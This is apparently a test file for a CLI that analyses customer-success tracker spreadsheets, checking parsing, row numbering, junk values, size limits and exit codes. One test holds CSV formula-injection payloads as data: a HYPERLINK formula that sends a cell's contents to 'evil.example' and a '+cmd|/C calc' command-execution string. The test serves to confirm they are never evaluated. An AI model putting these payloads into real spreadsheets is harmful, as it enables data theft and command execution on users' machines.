        ['OUT-1', 'Grow adoption', 'Active users', '40%', '80%', '64%', 'higher', 'Analytics'],
      ],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('OUT-1');
    expect(a.outcomes[0]).toMatchObject({ objective: 'Cut backlog', progress: null, status: 'No Data' });
    expect(a.outcomes[1]!.status).toBe('At Risk');
    expect(a.outcomes[1]!.progress).toBeCloseTo(0.6, 12);
    expect(findingAt(a.findings, 'Outcomes', 2, 'Target')).toMatchObject({ severity: 'warning', value: '120', message: expect.stringMatching(/Target equals Baseline/) });
    expectControl(res);
  });

  it('17. a Risk with Likelihood "Maybe": warning, quadrant and escalation null; the other risks placed', async () => {
    const path = await write('csv', {
      Accounts: accounts(['RISK-1', 'Risky', '$90,000']),
      Metrics: metrics(),
      Risks: [
        ['Account ID', 'Risk', 'Category', 'Likelihood', 'Impact', 'ARR at Risk', 'Mitigation', 'Owner', 'Status'],
        ['RISK-1', 'Champion leaving', 'People', 'Maybe', 'H', '$80,000', 'Multi-thread', 'Sam', 'Open'],
        // H/H and $150,000 > 100,000 → Priority Action, Critical.
        ['RISK-1', 'Budget cut', 'Financial', 'High', 'High', '$150,000', 'Exec sponsor', 'Sam', 'Open'],
        // impact L, likelihood M → Watch & Wait; likelihood M → Medium.
        ['RISK-1', 'Low usage', 'Adoption', 'M', 'L', '$10K', 'Training', 'Sam', 'Open'],
      ],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('RISK-1');
    expect(a.risks.map((r) => [r.risk, r.quadrant, r.escalation])).toEqual([
      ['Champion leaving', null, null],
      ['Budget cut', 'Priority Action', 'Critical'],
      ['Low usage', 'Watch & Wait', 'Medium'],
    ]);
    expect(findingAt(a.findings, 'Risks', 2, 'Likelihood')).toMatchObject({ severity: 'warning', value: 'Maybe', message: expect.stringMatching(/H, M or L/) });
    expectControl(res);
  });

  it('32. an Opportunity with Probability 150% and one with "soon": warnings; weighted only from valid rows', async () => {
    // weighted = $100,000 × 30% = 30,000; total = 100,000 + 40,000 + 20,000 = 160,000.
    const path = await write('csv', {
      Accounts: accounts(['OPP-1', 'Oppy', '$90,000']),
      Metrics: metrics(),
      Opportunities: [
        ['Account ID', 'Opportunity', 'Potential ARR', 'Probability'],
        ['OPP-1', 'Upsell seats', '$100,000', '30%'],
        ['OPP-1', 'New module', '$40,000', '150%'],
        ['OPP-1', 'Services', '$20K', 'soon'],
      ],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('OPP-1');
    expect(a.opportunities).toEqual({ total: 160000, weighted: 30000 });
    expect(findingAt(a.findings, 'Opportunities', 3, 'Probability')).toMatchObject({ severity: 'warning', message: expect.stringMatching(/between 0% and 100%/) });
    expect(a.findings.filter((f) => f.tab === 'Opportunities' && f.row === 4 && f.column === 'Probability').map((f) => f.value)).toContain('soon');
    expectControl(res);
  });

  it('33. Settings "Hourly Rate" = "lots": warning on Settings/Value, the default $75 is used', async () => {
    // TIME-1 Time Savings 10 h, no Rate → 10 × 75 = 750.
    const path = await write('csv', {
      Accounts: accounts(['TIME-1', 'Timely', '$40,000']),
      Metrics: metrics(),
      Settings: [['Key', 'Value'], ['Hourly Rate', 'lots']],
      Value: [VALUE_HEADER, ['TIME-1', '2026-Q4', 'Time Savings', 'Hours', 10, '', '', '', '', 'Timesheets']],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(findingAt(res.json!.findings, 'Settings', 2, 'Value')).toMatchObject({ severity: 'warning', value: 'lots', message: expect.stringMatching(/default is used/) });
    expect(res.account('TIME-1').value.quarterTotal).toBe(750);
    expectControl(res);
  });
});

// =========================================================================================================
describe('layout: header rows, tab and header spellings, blank rows, formulas', () => {
  it.each(['csv', 'xlsx'] as const)('18. a title above the header (%s): still read, findings cite the real sheet rows', async (format) => {
    const path = await write(format, {
      Accounts: [
        ['QBR Tracker — FY26'],
        [],
        ACCOUNTS_HEADER,
        GOOD_ACCOUNT, // row 4
        ['HDR-2', 'Bad Arr', 'abc'], // row 5
        ['HDR-3', 'Late', '$10,000', 5, '2026-01-10', 'soon', '2026-06-01'], // row 6
      ],
      Metrics: [['Exported 2026-11-20 by ops'], METRICS_HEADER, GOOD_METRICS, ['GHOST-1', '2026-Q4']],
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([{ id: 'HDR-2', reason: 'Accounts row 5, ARR "abc": ARR is not an amount of money; the account is skipped' }]);
    expect(findingAt(res.account('HDR-3').findings, 'Accounts', 6, 'Renewal Date', /not a date/)).toMatchObject({ value: 'soon', severity: 'warning' });
    expect(findingAt(res.json!.findings, 'Metrics', 4, 'Account ID')).toMatchObject({ value: 'GHOST-1' });
    expectControl(res);
  });

  it('19. tab names and headers in other spellings (accounts, METRICS, Stake-holders, QBR_LOG; account id, ARR ) are found', async () => {
    const path = await write('csv', {
      accounts: [
        ['account id', 'Account Name', 'ARR ', 'licensed_seats', 'contract-start', 'RENEWAL DATE', 'last qbr date'],
        GOOD_ACCOUNT,
        ['SPELL-2', 'Spelled', '$30K', 10, '2026-01-10', '2027-12-31', '2026-06-01'],
        ['SPELL-3', 'Bad Money', 'abc'],
      ],
      METRICS: [
        ['ACCOUNT_ID', 'quarter', 'Active-Users', 'licensed seats', 'Features Used', 'features available', 'escalations', 'Csat', 'Engagement Score', 'relationship score'],
        GOOD_METRICS,
        ['SPELL-2', '2026-Q4', 'many', 10, 5, 10, 0, 5, 50, 50],
      ],
      'Stake-holders': [['Account ID', 'Name', 'Title'], ['GOOD-1', 'Pat Lee', 'VP Ops'], ['GHOST-7', 'Ghost', 'None']],
      QBR_LOG: [['account id', 'QBR Date', 'Deck URL'], ['GHOST-8', '2026-09-15', 'https://x.example']],
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    // The "ARR " column is the ARR column: SPELL-3's text in it costs the account.
    expect(res.json!.skipped).toEqual([{ id: 'SPELL-3', reason: expect.stringMatching(/^accounts row 4, ARR\s*"abc": ARR\s*is not an amount of money/) }]);
    // SPELL-2: $30K → Mid-Market; header "ARR " found. Its Active Users "many" is reported under the header as written.
    const s = res.account('SPELL-2');
    expect(s.segment).toBe('Mid-Market');
    expect(findingAt(s.findings, 'METRICS', 3, 'Active-Users')).toMatchObject({ value: 'many', message: 'not a number' });
    // usage = feature adoption 100·5/10 = 50; support 100; health = 0.35·50 + 0.25·50 + 0.2·100 + 0.2·50 = 17.5+12.5+20+10 = 60
    expect(s.health.score).toBe(60);
    // The optional tabs were found: their unknown-ID rows are reported under the tab name as written.
    const norm = (c: string | null) => (c ?? '').toLowerCase().replace(/[\s_-]+/g, '');
    const ghost7 = res.json!.findings.find((f) => f.tab === 'Stake-holders' && f.row === 3);
    const ghost8 = res.json!.findings.find((f) => f.tab === 'QBR_LOG' && f.row === 2);
    expect(ghost7).toMatchObject({ value: 'GHOST-7', severity: 'warning' });
    expect(ghost8).toMatchObject({ value: 'GHOST-8', severity: 'warning' });
    expect(norm(ghost7!.column)).toBe('accountid');
    expect(norm(ghost8!.column)).toBe('accountid');
    expectControl(res);
  });

  it.each(['csv', 'xlsx'] as const)('24. blank rows in the middle (%s) are skipped silently; row numbers after them stay right', async (format) => {
    const path = await write(format, {
      Accounts: [
        ACCOUNTS_HEADER,
        GOOD_ACCOUNT, // 2
        ['', '', '', '', '', '', ''], // 3 (an empty line in CSV is written by the next row)
        [], // 4
        ['  ', ' ', '', '', '', '', ''], // 5: whitespace only
        ['BLANK-2', 'After Blanks', '$10,000', 5, '2026-01-10', 'never', '2026-06-01'], // 6
      ],
      Metrics: [METRICS_HEADER, [], GOOD_METRICS, [], ['BLANK-2', '2026-Q4', 'few', 5, 1, 2, 0, 5, 50, 50]],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(res.json!.findings).toEqual([]);
    const b = res.account('BLANK-2');
    expect(findingAt(b.findings, 'Accounts', 6, 'Renewal Date', /not a date/)).toMatchObject({ value: 'never', severity: 'warning' });
    expect(findingAt(b.findings, 'Metrics', 5, 'Active Users')).toMatchObject({ value: 'few' });
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['GOOD-1', 'BLANK-2']);
    expectControl(res);
  });

  // (Regression: readTracker once listed accounts whose row had a finding ahead of the clean rows above them.)
  it('34. accounts (and skipped accounts) come out in sheet order even when a later row has a finding', async () => {
    const path = await write('csv', {
      Accounts: accounts(
        ['WARN-2', 'Warned', '$10,000', 5, '2026-01-10', 'never', '2026-06-01'],
        ['CLEAN-3', 'Clean', '$10,000', 5, '2026-01-10', '2027-06-01', '2026-06-01'],
        ['SKIP-4', 'Skipped', 'abc'],
        ['SKIP-5', '', '$10,000'],
      ),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['GOOD-1', 'WARN-2', 'CLEAN-3']);
    expect(res.json!.skipped.map((a) => a.id)).toEqual(['SKIP-4', 'SKIP-5']);
  });

  it.each(['csv', 'xlsx'] as const)('25. formula-looking text in Account (%s) is kept as text, never evaluated', async (format) => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    const path = await write(format, {
      Accounts: accounts(['FORM-1', evil, '$10,000'], ['FORM-2', '+cmd|/C calc!A0', '$10,000'], ['FORM-3', '@SUM(1+1)', '$10,000']),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(res.account('FORM-1').name).toBe(evil);
    expect(res.account('FORM-2').name).toBe('+cmd|/C calc!A0');
    expect(res.account('FORM-3').name).toBe('@SUM(1+1)');
    expectControl(res);
  });

  it('25b. a real .xlsx formula cell gives its cached result; one without a result is missing (skipped "no Account")', async () => {
    const path = await write('xlsx', {
      Accounts: accounts(
        ['FORM-4', { formula: 'HYPERLINK("http://x.example","Cached Co")', result: 'Cached Co' }, { formula: '2*60000', result: 120000 }],
        ['FORM-5', { formula: 'CONCAT("a","b")' }, '$10,000'],
      ),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.account('FORM-4')).toMatchObject({ name: 'Cached Co', segment: 'Enterprise' });
    expect(res.json!.skipped).toEqual([{ id: 'FORM-5', reason: 'Accounts row 4, Account: no Account; the account is skipped' }]);
    expectControl(res);
  });
});

// =========================================================================================================
describe('size', () => {
  it('20. a 50,000-row Metrics tab completes quickly; duplicates warned; control and bulk accounts correct', async () => {
    // BULK-k (k = 1…9), $30,000 → Mid-Market, 5,000 rows each:
    //   2026-Q4 first: AU 100/100, FU 10/10, Esc 0, CSAT 5, Eng 100, Rel 100 → every dimension 100 → health 100
    //   3,999 older quarters (2026-Q3 back to 1027-Q1): AU 50/100, FU 5/10, Esc 5, CSAT 3, Eng 50, Rel 50
    //     → usage 0.6·50 + 0.4·50 = 50, support (100 − 50)·3/5 = 30
    //     → 0.35·50 + 0.25·50 + 0.2·30 + 0.2·50 = 17.5 + 12.5 + 6 + 10 = 46; trend = 100 − 46 = 54
    //   1,000 duplicates of 2026-Q4 (spelled "Q4 2026") with poor numbers → 1,000 warnings, not read
    // GOOD-1: its control row first, then 4,999 duplicates → 1 + 9·5,000 + 4,999 = 50,000 data rows.
    const lines: string[] = [METRICS_HEADER.join(','), GOOD_METRICS.join(',')];
    const accountRows: TestCell[][] = [];
    const current = 2026 * 4 + 3;
    for (let k = 1; k <= 9; k++) {
      const id = `BULK-${k}`;
      accountRows.push([id, `Bulk ${k}`, '$30,000', 100, '2026-01-10', '2027-12-31', '2026-06-01']);
      lines.push(`${id},2026-Q4,100,100,10,10,0,5,100,100`);
      for (let i = 1; i < 4000; i++) {
        const index = current - i;
        lines.push(`${id},${Math.floor(index / 4)}-Q${(index % 4) + 1},50,100,5,10,5,3,50,50`);
      }
      for (let i = 0; i < 1000; i++) lines.push(`${id},Q4 2026,1,100,1,10,9,1,1,1`);
    }
    for (let i = 0; i < 4999; i++) lines.push('GOOD-1,2026-Q4,1,200,1,20,9,1,1,1');
    expect(lines.length - 1).toBe(50000);
    const dir = writeCsvTracker(tmp.path('big'), { Accounts: accounts(...accountRows) });
    writeFileSync(join(dir, 'Metrics.csv'), lines.join('\n') + '\n');

    const started = Date.now();
    const res = await analyze(dir);
    const elapsed = Date.now() - started;
    expect(res.code).toBe(0);
    expect(elapsed).toBeLessThan(15000);
    expect(res.json!.accounts).toHaveLength(10);
    for (let k = 1; k <= 9; k++) {
      const a = res.account(`BULK-${k}`);
      expect(a).toMatchObject({ segment: 'Mid-Market', quarter: '2026-Q4', health: { score: 100, band: 'Green', trend: 54 } });
      const dups = a.findings.filter((f) => f.tab === 'Metrics' && f.column === 'Quarter' && /second Metrics row/.test(f.message));
      expect(dups).toHaveLength(1000);
      expect(dups[0]).toMatchObject({ severity: 'warning', value: '2026-Q4' });
    }
    const good = res.account('GOOD-1');
    expect(good.health.score).toBe(72);
    const goodDups = good.findings.filter((f) => /second Metrics row/.test(f.message));
    expect(goodDups).toHaveLength(4999);
    expect(goodDups[0]!.row).toBe(45003); // after the header (1), GOOD-1 (2) and 9 × 5,000 bulk rows
    expect(goodDups[4998]!.row).toBe(50001);
  }, 30000);
});

// =========================================================================================================
describe('the command itself is wrong or the file unreadable (exit 2, nothing on stdout)', () => {
  const expectExit2 = (r: { code: number; stdout: string; stderr: string }, stderr: RegExp) => {
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(stderr);
  };

  it('21. binary garbage saved as tracker.xlsx', async () => {
    const path = tmp.path('tracker.xlsx');
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37 + 11) % 256)));
    expectExit2(await analyze(path), /not a readable \.xlsx/);
  });

  it('21b. a zip that is not a workbook, and a truncated workbook', async () => {
    const good = await write('xlsx', { Accounts: accounts() });
    const bytes = readFileSync(good);
    const truncated = tmp.path('truncated.xlsx');
    mkdirSync(join(truncated, '..'), { recursive: true });
    writeFileSync(truncated, bytes.subarray(0, Math.floor(bytes.length / 2)));
    expectExit2(await analyze(truncated), /not a readable \.xlsx|no worksheets/);

    const fakeZip = tmp.path('fake.xlsx');
    mkdirSync(join(fakeZip, '..'), { recursive: true });
    writeFileSync(fakeZip, Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200, 7)]));
    expectExit2(await analyze(fakeZip), /not a readable \.xlsx/);
  });

  it('21c. an .xlsx with no worksheets at all', async () => {
    const path = tmp.path('nosheets.xlsx');
    mkdirSync(join(path, '..'), { recursive: true });
    await new ExcelJS.Workbook().xlsx.writeFile(path);
    expectExit2(await analyze(path), /no worksheets/);
  });

  it('21d. a folder whose CSV is binary, and a folder with no CSV at all', async () => {
    const dir = writeCsvTracker(tmp.path('tracker'), { Metrics: metrics() });
    writeFileSync(join(dir, 'Accounts.csv'), Buffer.from([0x41, 0x00, 0x42, 0x00, 0xff, 0x00]));
    expectExit2(await analyze(dir), /not a text CSV file/);

    const empty = tmp.path('empty');
    mkdirSync(empty, { recursive: true });
    writeFileSync(join(empty, 'notes.txt'), 'hello');
    expectExit2(await analyze(empty), /has no \.csv files/);
  });

  it('21e. a CSV with an unclosed quote', async () => {
    const dir = writeCsvTracker(tmp.path('tracker'), { Metrics: metrics() });
    writeFileSync(join(dir, 'Accounts.csv'), 'Account ID,Account,ARR\nGOOD-1,"Good Co,$120000\nX-2,X,$5\n');
    expectExit2(await analyze(dir), /Accounts\.csv is not valid CSV.*unclosed quote/);
  });

  it('22a. a tracker path that does not exist', async () => {
    expectExit2(await analyze(join(tmp.dir, 'nowhere', 'tracker.xlsx')), /does not exist/);
  });

  it('22b. no --tracker at all', async () => {
    expectExit2(await runCli(['analyze', '--today', '2026-11-22', '--json']), /--tracker is required/);
  });

  it('22c. an unknown flag --bogus', async () => {
    const path = await write('csv', { Accounts: accounts() });
    expectExit2(await analyze(path, ['--bogus']), /bogus/);
  });

  it.each(['2026-13-01', '2026-02-30', '22/11/2026', 'today'])('22d. --today %p is not a date', async (today) => {
    const path = await write('csv', { Accounts: accounts() });
    expectExit2(await runCli(['analyze', '--tracker', path, '--today', today, '--json']), /--today must be a date written YYYY-MM-DD/);
  });

  it('22e. an unknown command and a wrong file type', async () => {
    expectExit2(await runCli(['analyse', '--tracker', 'x']), /unknown command "analyse"/);
    const path = tmp.path('tracker.ods');
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, 'x');
    expectExit2(await analyze(path), /\.ods file/);
  });
});

// =========================================================================================================
describe('--account', () => {
  const book = () => write('csv', {
    Accounts: accounts(['OTHER-2', 'Other', '$10,000']),
    Metrics: metrics(),
  });

  it('23a. --account NOPE: skipped with a reason, nothing else analysed, exit 1', async () => {
    const res = await analyze(await book(), ['--account', 'NOPE']);
    expect(res.code).toBe(1);
    expect(res.json!.accounts).toEqual([]);
    expect(res.json!.skipped).toEqual([{ id: 'NOPE', reason: 'no account with Account ID "NOPE" in the Accounts tab' }]);
  });

  it('23b. --account good-1 (other case) finds GOOD-1 only, exit 0', async () => {
    const res = await analyze(await book(), ['--account', 'good-1']);
    expect(res.code).toBe(0);
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['GOOD-1']);
    expectControl(res);
  });

  it('23c. --account NOPE --account good-1: GOOD-1 analysed, NOPE skipped, exit 1', async () => {
    const res = await analyze(await book(), ['--account', 'NOPE', '--account', ' Good-1 ']);
    expect(res.code).toBe(1);
    expect(res.json!.skipped.map((s) => s.id)).toEqual(['NOPE']);
    expectControl(res);
  });
});

// =========================================================================================================
describe('junk everywhere', () => {
  // Text that is neither a value of any kind nor a "missing" word, and the missing words themselves.
  const JUNK = ['lots', '=1/0', '¯\\_(ツ)_/¯', '1e999', '(((', '💥', 'NaN', 'Infinity', '0x10', '<b>x</b>', '12,34', '1.200.000', 'TBD-ish'];
  const MISSING = ['', '#REF!', 'N/A', '-', '#DIV/0!'];

  it('35. every optional cell of every tab holds junk: warnings for each typed cell, never a crash, never NaN, control intact', async () => {
    // One JUNK-1 row per linked tab: its Account ID and required text are real, every other cell is junk or missing.
    // JUNK-1's ARR is $50,000 → Mid-Market; so it is analysed (warnings only) and the exit status is 0.
    const tabs: TestTabs = {};
    const expected: { tab: string; row: number; column: string; value: string }[] = [];
    let n = 0;
    const keys = (Object.keys(TABS) as TabKey[]).filter((k) => k !== 'settings');
    for (const key of keys) {
      const spec = TABS[key];
      const columns = Object.entries(spec.columns) as [string, ColumnSpec][];
      const header = columns.map(([, c]) => c.header);
      const junkRow = columns.map(([field, c]): TestCell => {
        if (field === 'accountId') return 'JUNK-1';
        if (key === 'accounts' && field === 'arr') return '$50,000';
        if (key === 'accounts' && field === 'segment') return 'Platinum';
        if (c.kind === 'quarter' && 'required' in c && c.required) return '2026-Q4';
        if ('required' in c && c.required) return `x${n++}`;
        const all = [...JUNK, ...MISSING];
        const v = all[n++ % all.length]!;
        if (c.kind !== 'text' && JUNK.includes(v)) expected.push({ tab: spec.name, row: key === 'accounts' || key === 'metrics' ? 3 : 2, column: c.header, value: v });
        return v;
      });
      const rows: TestCell[][] = [header];
      if (key === 'accounts') rows.push(header.map((h) => GOOD_ACCOUNT[ACCOUNTS_HEADER.indexOf(h)] ?? ''));
      if (key === 'metrics') rows.push(header.map((h) => GOOD_METRICS[METRICS_HEADER.indexOf(h)] ?? ''));
      rows.push(junkRow);
      tabs[spec.name] = rows;
    }
    tabs.Settings = [['Key', 'Value'], ['Hourly Rate', 'lots'], ['Usage Weight', '💥'], ['Enterprise Threshold', 'NaN'], ['Fiscal Year Start Month', '13'], ['Date Order', 'YMD']];
    const path = await write('csv', tabs);

    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(res.json!.skipped).toEqual([]);
    const junk = res.account('JUNK-1');
    expect(junk.segment).toBe('Mid-Market');
    expect(junk.health.score).toBeNull();
    expect(junk.value.quarterTotal).toBeNull();
    expect(junk.opportunities).toEqual({ total: null, weighted: null });
    // Every typed cell with junk in it is named: tab, row, header, the text as typed.
    expect(expected.length).toBeGreaterThan(20);
    for (const e of expected) {
      const hit = junk.findings.find((f) => f.tab === e.tab && f.row === e.row && f.column === e.column && f.value === e.value);
      if (!hit) throw new Error(`no finding for ${JSON.stringify(e)}`);
      expect(hit.severity).toBe('warning');
    }
    expect(junk.findings.every((f) => f.severity === 'warning')).toBe(true);
    // Five unusable settings, each named on its own row; the defaults keep the control's numbers.
    expect(res.json!.findings.filter((f) => f.tab === 'Settings').map((f) => f.row).sort()).toEqual([2, 3, 4, 5, 6]);
    expectControl(res);

    // JSON would hide a NaN as null: scan the analysis itself for any non-finite number.
    const book = analyzeWorkbook(await openTracker(path), { today: '2026-11-22' });
    const bad: string[] = [];
    const walk = (v: unknown, at: string): void => {
      if (typeof v === 'number' && !Number.isFinite(v)) bad.push(`${at} = ${v}`);
      else if (Array.isArray(v)) v.forEach((x, i) => walk(x, `${at}[${i}]`));
      else if (v !== null && typeof v === 'object' && !(v instanceof Date)) for (const [k, x] of Object.entries(v)) walk(x, `${at}.${k}`);
    };
    walk(book, 'book');
    expect(bad).toEqual([]);
  });
});
